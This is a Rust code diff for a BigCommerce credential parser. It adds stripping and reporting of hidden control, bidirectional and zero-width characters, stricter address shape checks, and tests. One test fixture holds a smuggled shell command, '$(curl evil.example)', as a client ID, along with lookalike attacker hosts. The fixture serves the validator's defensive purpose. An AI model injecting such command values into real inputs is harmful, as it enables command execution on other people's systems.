@@ -37,6 +37,20 @@ pub enum CredentialField {
 }
 
 impl CredentialField {
+    pub const ALL: [CredentialField; 6] = [
+        CredentialField::Name,
+        CredentialField::ApiPath,
+        CredentialField::B2bApiPath,
+        CredentialField::ClientId,
+        CredentialField::ClientSecret,
+        CredentialField::AccessToken,
+    ];
+
+    /// The field named `key` (as it serialises), for reading a stored problem back.
+    pub fn from_key(key: &str) -> Option<CredentialField> {
+        CredentialField::ALL.into_iter().find(|f| f.key() == key)
+    }
+
     /// The field's name in messages and stored records (as it serialises).
     pub fn key(self) -> &'static str {
         match self {
@@ -106,6 +120,8 @@ pub enum Shape {
 
 /// The shape of a value, if it has one of those ScopeFill knows.
 pub fn shape_of(value: &str) -> Option<Shape> {
+    // What it would be once its hidden characters are removed (as `Credentials::set` does).
+    let (value, _) = strip_hidden(value);
     let value = value.trim();
     if store_hash_from_api_path(value).is_some() {
         return Some(Shape::ApiPath);
@@ -134,8 +150,11 @@ pub struct Problem {
 #[serde(rename_all = "snake_case")]
 pub enum ProblemKind {
     Missing,
+    /// Not of the shape BigCommerce gives this value.
     Odd,
     Conflict,
+    /// Held control, direction or zero-width characters, which were removed.
+    Stripped,
 }
 
 impl ProblemKind {
@@ -145,6 +164,74 @@ impl ProblemKind {
             ProblemKind::Missing => "missing",
             ProblemKind::Odd => "odd",
             ProblemKind::Conflict => "conflict",
+            ProblemKind::Stripped => "stripped",
+        }
+    }
+
+    /// The kind named `key` (as it serialises).
+    pub fn from_key(key: &str) -> Option<ProblemKind> {
+        [
+            ProblemKind::Missing,
+            ProblemKind::Odd,
+            ProblemKind::Conflict,
+            ProblemKind::Stripped,
+        ]
+        .into_iter()
+        .find(|k| k.key() == key)
+    }
+}
+
+/// Whether `c` changes how text shows or pastes without being visible itself: C0 and C1
+/// controls, the bidirectional marks, embeddings, overrides and isolates, the zero-width
+/// characters, the word joiner, the line and paragraph separators, and the byte-order mark.
+/// None belongs in a credential or an account name; in one, a value can read as one thing
+/// and paste as another (a bidi override in a terminal, a newline in a `.env` line).
+pub fn is_hidden_char(c: char) -> bool {
+    c.is_control()
+        || matches!(
+            c,
+            '\u{061C}'
+                | '\u{200B}'..='\u{200F}'
+                | '\u{2028}'..='\u{202E}'
+                | '\u{2060}'
+                | '\u{2066}'..='\u{2069}'
+                | '\u{FEFF}'
+        )
+}
+
+/// `value` without its hidden characters (`is_hidden_char`), and whether any was there.
+pub fn strip_hidden(value: &str) -> (String, bool) {
+    if !value.chars().any(is_hidden_char) {
+        return (value.to_string(), false);
+    }
+    (
+        value.chars().filter(|c| !is_hidden_char(*c)).collect(),
+        true,
+    )
+}
+
+impl Problem {
+    /// The problem of a field given twice with different values (the first is kept).
+    pub fn conflict(field: CredentialField) -> Problem {
+        Problem {
+            field,
+            kind: ProblemKind::Conflict,
+            message: format!(
+                "{} appears twice with different values; kept the first",
+                field.label()
+            ),
+        }
+    }
+
+    /// The problem of a value that held hidden characters (they are removed, and said).
+    pub fn stripped(field: CredentialField) -> Problem {
+        Problem {
+            field,
+            kind: ProblemKind::Stripped,
+            message: format!(
+                "{} held control, direction or zero-width characters; they were removed",
+                field.label()
+            ),
         }
     }
 }
@@ -170,10 +257,17 @@ impl fmt::Display for NoCredentials {
 impl std::error::Error for NoCredentials {}
 
 impl Credentials {
-    fn set(&mut self, field: CredentialField, value: &str) -> Option<Problem> {
+    /// Sets `field` once (a second, different value is a conflict; the first stays), without
+    /// hidden characters (removed, and reported).
+    fn set(&mut self, field: CredentialField, value: &str) -> Vec<Problem> {
+        let (value, stripped) = strip_hidden(value);
         let value = value.trim();
         if value.is_empty() {
-            return None;
+            return Vec::new();
+        }
+        let mut problems = Vec::new();
+        if stripped {
+            problems.push(Problem::stripped(field));
         }
         let existing: Option<&str> = match field {
             CredentialField::Name => self.name.as_deref(),
@@ -186,16 +280,10 @@ impl Credentials {
         if let Some(old) = existing {
             if old == value || field == CredentialField::Name {
                 // `NAME` and `CLIENT NAME` may both be present; the first one wins.
-                return None;
+                return problems;
             }
-            return Some(Problem {
-                field,
-                kind: ProblemKind::Conflict,
-                message: format!(
-                    "{} appears twice with different values; kept the first",
-                    field.label()
-                ),
-            });
+            problems.push(Problem::conflict(field));
+            return problems;
         }
         let v = value.to_string();
         match field {
@@ -206,7 +294,7 @@ impl Credentials {
             CredentialField::ClientSecret => self.client_secret = Some(Secret::new(v)),
             CredentialField::AccessToken => self.access_token = Some(Secret::new(v)),
         }
-        None
+        problems
     }
 
     /// The store hash: the path segment after `/stores/` in the API path.
@@ -283,8 +371,11 @@ impl Credentials {
             }
         }
         if let Some(path) = &self.b2b_api_path {
-            if crate::https::parse(path).is_none() {
-                odd(CredentialField::B2bApiPath, "is not an https:// address");
+            if shape_of(path) != Some(Shape::B2bApiPath) {
+                odd(
+                    CredentialField::B2bApiPath,
+                    "is not an address on https://api-b2b.bigcommerce.com/",
+                );
             }
         }
         out
@@ -762,5 +853,168 @@ mod tests {
         );
         assert_eq!(shape_of("Wherehouse"), None);
         assert_eq!(shape_of(""), None);
+    }
+
+    /// Every character the rule names, one of each range's ends and middles.
+    const HIDDEN: [char; 22] = [
+        '\u{0}', '\u{7}', '\u{1B}', '\u{1F}', '\u{7F}', '\u{80}', '\u{9B}', '\u{9F}', '\u{061C}',
+        '\u{200B}', '\u{200C}', '\u{200D}', '\u{200E}', '\u{200F}', '\u{202A}', '\u{202C}',
+        '\u{202E}', '\u{2066}', '\u{2068}', '\u{2069}', '\u{FEFF}', '\u{2028}',
+    ];
+
+    #[test]
+    fn hidden_characters_are_the_controls_the_direction_marks_and_the_zero_width_ones() {
+        for c in HIDDEN {
+            assert!(is_hidden_char(c), "U+{:04X}", c as u32);
+        }
+        for c in [
+            'a', 'Z', '0', ' ', 'é', 'ß', 'ç', '€', '中', 'ж', '\u{00A0}', '\u{2010}', '😀',
+        ] {
+            assert!(!is_hidden_char(c), "U+{:04X}", c as u32);
+        }
+        assert_eq!(strip_hidden("abc"), ("abc".to_string(), false));
+        assert_eq!(
+            strip_hidden("a\u{202E}b\u{200B}c\u{1B}[31m"),
+            ("abc[31m".to_string(), true)
+        );
+    }
+
+    #[test]
+    fn hidden_characters_are_removed_from_every_field_and_reported() {
+        // Each value with a different hidden character in it, from the file, the pop-up's
+        // pairs and the dialog alike.
+        let hide = |v: &str, c: char| format!("{}{c}{}", &v[..3], &v[3..]);
+        let path = "https://api.bigcommerce.com/stores/abc123xyz0/v3/";
+        let text = format!(
+            "CLIENT ID: {}\nCLIENT SECRET: {}\nACCESS TOKEN: {}\nAPI PATH: {}\nNAME: {}\n",
+            hide(ID, '\u{200B}'),
+            hide(SECRET, '\u{202E}'),
+            hide(TOKEN, '\u{FEFF}'),
+            hide(path, '\u{2066}'),
+            hide("Wherehouse", '\u{1B}'),
+        );
+        let parsed = from_text(&text).unwrap();
+        let c = &parsed.credentials;
+        assert_eq!(c.client_id.as_deref(), Some(ID));
+        assert_eq!(c.client_secret.as_ref().map(Secret::expose), Some(SECRET));
+        assert_eq!(c.access_token.as_ref().map(Secret::expose), Some(TOKEN));
+        assert_eq!(c.api_path.as_deref(), Some(path));
+        assert_eq!(c.name.as_deref(), Some("Wherehouse"));
+        let stripped: Vec<CredentialField> = parsed
+            .problems
+            .iter()
+            .filter(|p| p.kind == ProblemKind::Stripped)
+            .map(|p| p.field)
+            .collect();
+        assert_eq!(
+            stripped,
+            [
+                CredentialField::ClientId,
+                CredentialField::ClientSecret,
+                CredentialField::AccessToken,
+                CredentialField::ApiPath,
+                CredentialField::Name,
+            ]
+        );
+        let pairs = from_pairs([
+            ("Client ID", hide(ID, '\u{200F}').as_str()),
+            ("Access Token", hide(TOKEN, '\u{061C}').as_str()),
+        ])
+        .unwrap();
+        assert_eq!(pairs.credentials.client_id.as_deref(), Some(ID));
+        assert_eq!(
+            pairs
+                .problems
+                .iter()
+                .filter(|p| p.kind == ProblemKind::Stripped)
+                .count(),
+            2
+        );
+        // In the dialog, by shape once the hidden characters are gone.
+        let dialog = from_dialog(&[
+            field(None, &hide(ID, '\u{200D}')),
+            field(None, &hide(SECRET, '\u{9B}')),
+            field(None, &hide(TOKEN, '\u{2069}')),
+        ])
+        .unwrap();
+        assert_eq!(dialog.credentials.client_id.as_deref(), Some(ID));
+        assert_eq!(
+            dialog.credentials.access_token.as_ref().map(Secret::expose),
+            Some(TOKEN)
+        );
+        assert_eq!(
+            dialog
+                .credentials
+                .client_secret
+                .as_ref()
+                .map(Secret::expose),
+            Some(SECRET)
+        );
+        assert_eq!(
+            dialog
+                .problems
+                .iter()
+                .filter(|p| p.kind == ProblemKind::Stripped)
+                .count(),
+            3
+        );
+        // Nothing but hidden characters is no value at all.
+        assert!(from_pairs([("Client ID", "\u{200B}\u{202E}")]).is_err());
+    }
+
+    #[test]
+    fn values_outside_the_known_shapes_are_flagged() {
+        let odd = |c: &Credentials| -> Vec<CredentialField> {
+            c.problems()
+                .into_iter()
+                .filter(|p| p.kind == ProblemKind::Odd)
+                .map(|p| p.field)
+                .collect()
+        };
+        let good = Credentials {
+            name: Some("Wherehouse".into()),
+            api_path: Some("https://api.bigcommerce.com/stores/abc123xyz0/v3/".into()),
+            b2b_api_path: Some("https://api-b2b.bigcommerce.com/api/v3/io/".into()),
+            client_id: Some(ID.into()),
+            client_secret: Some(Secret::new(SECRET)),
+            access_token: Some(Secret::new(TOKEN)),
+        };
+        assert_eq!(odd(&good), []);
+        let bad = Credentials {
+            name: Some("Wherehouse".into()),
+            api_path: Some("https://api.bigcommerce.com.evil.example/stores/abc/v3/".into()),
+            b2b_api_path: Some("https://evil.example/api/v3/io/".into()),
+            client_id: Some("$(curl evil.example)".into()),
+            client_secret: Some(Secret::new("short")),
+            access_token: Some(Secret::new(ID.to_uppercase())),
+        };
+        assert_eq!(
+            odd(&bad),
+            [
+                CredentialField::ClientId,
+                CredentialField::AccessToken,
+                CredentialField::ClientSecret,
+                CredentialField::ApiPath,
+                CredentialField::B2bApiPath,
+            ]
+        );
+    }
+
+    #[test]
+    fn fields_and_kinds_read_back_from_their_keys() {
+        for f in CredentialField::ALL {
+            assert_eq!(CredentialField::from_key(f.key()), Some(f));
+        }
+        for k in [
+            ProblemKind::Missing,
+            ProblemKind::Odd,
+            ProblemKind::Conflict,
+            ProblemKind::Stripped,
+        ] {
+            assert_eq!(ProblemKind::from_key(k.key()), Some(k));
+            assert_eq!(serde_json::to_value(k).unwrap(), k.key());
+        }
+        assert_eq!(CredentialField::from_key("password"), None);
+        assert_eq!(ProblemKind::from_key("fine"), None);
     }
 }
